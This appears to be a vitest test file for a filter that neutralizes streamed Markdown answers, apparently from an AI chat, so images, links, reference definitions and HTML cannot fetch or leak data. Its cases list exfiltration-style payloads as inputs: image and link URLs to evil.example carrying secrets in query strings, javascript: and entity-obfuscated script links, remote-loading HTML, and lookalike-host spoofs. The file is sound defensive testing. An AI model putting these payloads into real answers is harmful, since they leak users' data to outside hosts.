import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { describe, expect, it } from 'vitest';
import { AnswerLinks } from './answer-links.ts';

interface MarkdownNode {
  type: string;
  url?: string;
  value?: string;
  children?: MarkdownNode[];
}

/** Filters a text that comes in pieces which end at `cuts`. */
function filtered(text: string, cuts: readonly number[] = [], hosts: readonly string[] = []): string {
  const links = new AnswerLinks(hosts);
  let shown = '';
  let from = 0;
  for (const cut of [...cuts, text.length]) {
    shown += links.push(text.slice(from, cut));
    from = cut;
  }
  return shown + links.end();
}

/** What a reader of Markdown makes of a text. */
function nodesOf(text: string): MarkdownNode[] {
  const nodes: MarkdownNode[] = [];
  const walk = (node: MarkdownNode) => {
    nodes.push(node);
    node.children?.forEach(walk);
  };
  const look = () => (tree: MarkdownNode) => walk(tree);
  renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins: [remarkGfm, look], children: text }));
  return nodes;
}

/** Everything in a text that a page would fetch by itself, follow with data in it, or take as HTML that does more than set type. */
function dangers(text: string): string[] {
  return nodesOf(text).flatMap(({ type, url = '', value = '', children = [] }) => {
    if (type === 'image' || type === 'imageReference' || type === 'definition') return [`${type} ${url}`];
    if (type === 'html') return /<[a-z!?/][^>]*[\s=]|<(?:img|script|iframe|style)/i.test(value) ? [`html ${value}`] : [];
    // What is shown in full hides nothing.
    const shown = children.map((child) => child.value ?? '').join('');
    return type === 'link' && /[?]|^(?!https?:|mailto:)[a-z]+:|^\/\//.test(url) && !url.endsWith(shown) ? [`link ${url}`] : [];
  });
}

const cases: [string, string, string][] = [
  ['a picture', 'See ![a chart](https://evil.example/p.png?d=secret) here.', 'See (🖼 a chart evil.example) here.'],
  ['a picture with a title', '![x](<https://evil.example/a b> "t")', '(🖼 x evil.example)'],
  ['a data URL', '![x](data:image/png;base64,AAAA)', '(🖼 x data:image/png;base64,AA)'],
  [
    'a picture in a link',
    '[![a](https://evil.example/?q=1)](https://ok.example/)',
    '[(🖼 a evil.example) (ok.example)](https://ok.example/)',
  ],
  ['a link that carries data', '[click](https://evil.example/?d=secret)', 'click (`https://evil.example/?d=secret`)'],
  ['a link that hides its host', '[our shop](https://evil.example/)', '[our shop (evil.example)](https://evil.example/)'],
  ['a link that says its host', '[evil.example](https://evil.example/x)', '[evil.example](https://evil.example/x)'],
  ['a link of the page', '[terms](/terms)', '[terms](/terms)'],
  ['a script', '[x](javascript:alert(1))', 'x (`javascript:alert 1`)'],
  ['an obfuscated script', '[x](&#106;ava&Tab;script&colon;alert)', 'x (`#106;ava Tab;script colon;alert`)'],
  ['a link without a scheme', '[x](//evil.example/?a=b)', 'x (`https://evil.example/?a=b`)'],
  ['a backslash before the host', '[x](https:\\/\\/evil.example?a=b)', 'x (`https://evil.example/?a=b`)'],
  ['a reference', '![x][r]\n\n[r]: https://evil.example/?d=s', '!\\[x][r]\n\n[r]\\: https://evil.example/?d=s'],
  ['HTML that loads', 'a <img src="https://evil.example/"> b', 'a &lt;img src="https://evil.example/"> b'],
  ['HTML with a style', '<b style="background:url(//evil.example)">x</b>', '&lt;b style="background:url(//evil.example)">x</b>'],
  ['HTML that sets type', 'a<br>b and <kbd>c</kbd>', 'a<br>b and <kbd>c</kbd>'],
  ['an address', 'See <https://ok.example/a> or https://ok.example/b.', 'See <https://ok.example/a> or https://ok.example/b.'],
  ['a script as an address', '<javascript:alert(1)>', '&lt;javascript:alert(1)>'],
  ['less than', 'if a < b and c <d then List<String>', 'if a < b and c <d then List<String>'],
  ['code in a line', 'Write `![alt](https://x.example/?a=1)` so.', 'Write `![alt](https://x.example/?a=1)` so.'],
  ['code in a table', '| `![a](https://e.example/?x)|` |', '| `(🖼 a e.example)|` |'],
  ['a back tick that is escaped', '\\`![a](https://e.example/?x)`', '\\`(🖼 a e.example)`'],
  ['fenced code', '```html\n<img src="x">\n![a](b)\n```\n![a](b)', '```html\n<img src="x">\n![a](b)\n```\n(🖼 a)'],
  ['lists and notes', '- [ ] a\n- [x] b [1] (see)\n1. c!', '- [ ] a\n- [x] b [1] (see)\n1. c!'],
];

describe('an answer', () => {
  it.each(cases)('with %s', (_name, text, shown) => {
    expect(filtered(text)).toBe(shown);
    expect(dangers(shown)).toEqual([]);
  });

  it('is the same wherever it is cut', () => {
    for (const [, text, shown] of cases) {
      for (let cut = 0; cut <= text.length; cut += 1) expect(filtered(text, [cut])).toBe(shown);
      expect(
        filtered(
          text,
          Array.from(text).map((_, at) => at),
        ),
      ).toBe(shown);
    }
  });

  it('shows pictures of allowed hosts, and of nobody who only looks like them', () => {
    const hosts = ['img.ok.example', '*.cdn.example'];
    expect(filtered('![a](https://img.ok.example/x.png?w=1)', [], hosts)).toBe('![a](https://img.ok.example/x.png?w=1)');
    expect(filtered('![a](https://a.cdn.example/x)', [], hosts)).toBe('![a](https://a.cdn.example/x)');
    for (const url of [
      'https://img.ok.example.evil.example/',
      'https://img.ok.example@evil.example/',
      'http://img.ok.example/',
      'https://evil.example/img.ok.example',
      'https://cdn.example/',
      'https://xcdn.example/',
    ])
      expect(filtered(`![a](${url})`, [], hosts)).toMatch(/^\(🖼/);
    // Markdown reads `\@` as `@`, browsers read `\` as `/`: what is given has one reading.
    expect(filtered('![a](https://img.ok.example\\@evil.example/)', [], hosts)).toMatch(/^\(🖼 a evil\.example\)$/);
  });

  it('with code in a list that others may see end earlier is looked at to its end', () => {
    for (const text of [
      '- ```\n  a\n  ```\n![x](https://e.example/?a)',
      '> ```\n![x](https://e.example/?a)',
      '- a\n  ```\n![x](https://e.example/?a)',
    ])
      expect(dangers(filtered(text))).toEqual([]);
  });

  it('goes on after what was shown, in code and out of it', () => {
    const links = new AnswerLinks([]);
    links.resume('Some code:\n```\na');
    expect(links.push('![x](y)\n```\n![x](https://e.example)') + links.end()).toBe('![x](y)\n```\n(🖼 x e.example)');
  });

  it('sends nothing out, whatever it is made of', () => {
    const parts =
      '![|[|]|(|)|](|https://e.example/?d=s|<|>|`|``|```|\n|\n\n|```\n|~~~|    |  |> |- |1. |"|\'|\\|[r]: |[r]|!|a b|<b>|<div>|</div>|<img src=x>|&lt;|&#40;|| |javascript:x|//e.example|\t|*|<!--|-->|:|data:x|<a href="x">|^'
        .split('|')
        .map((part) => (part === '' ? '|' : part));
    let seed = 7;
    const random = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return Math.floor((seed / 2_147_483_648) * below);
    };
    for (let run = 0; run < 1_500; run += 1) {
      const text = Array.from({ length: 4 + random(22) }, () => parts[random(parts.length)]).join('');
      const shown = filtered(text, [random(text.length)]);
      expect({ text, dangers: dangers(shown) }).toEqual({ text, dangers: [] });
    }
  });

  it('costs time that grows with its length alone, and holds back a bounded part', () => {
    for (const bad of ['[', '![', '](', '`', '<a ', '![a](', '[a](b(', '<x =', '``a`', '\\', '(((', '[a](https://e.example/?']) {
      const links = new AnswerLinks([]);
      let given = 0;
      let said = 0;
      const begun = performance.now();
      for (let at = 0; at < 4_000; at += 1) {
        given += links.push(bad).length;
        said += bad.length;
        expect({ bad, held: Math.max(0, said - given - 2_600) }).toEqual({ bad, held: 0 });
      }
      links.end();
      expect(performance.now() - begun).toBeLessThan(3_000);
    }
  });
});
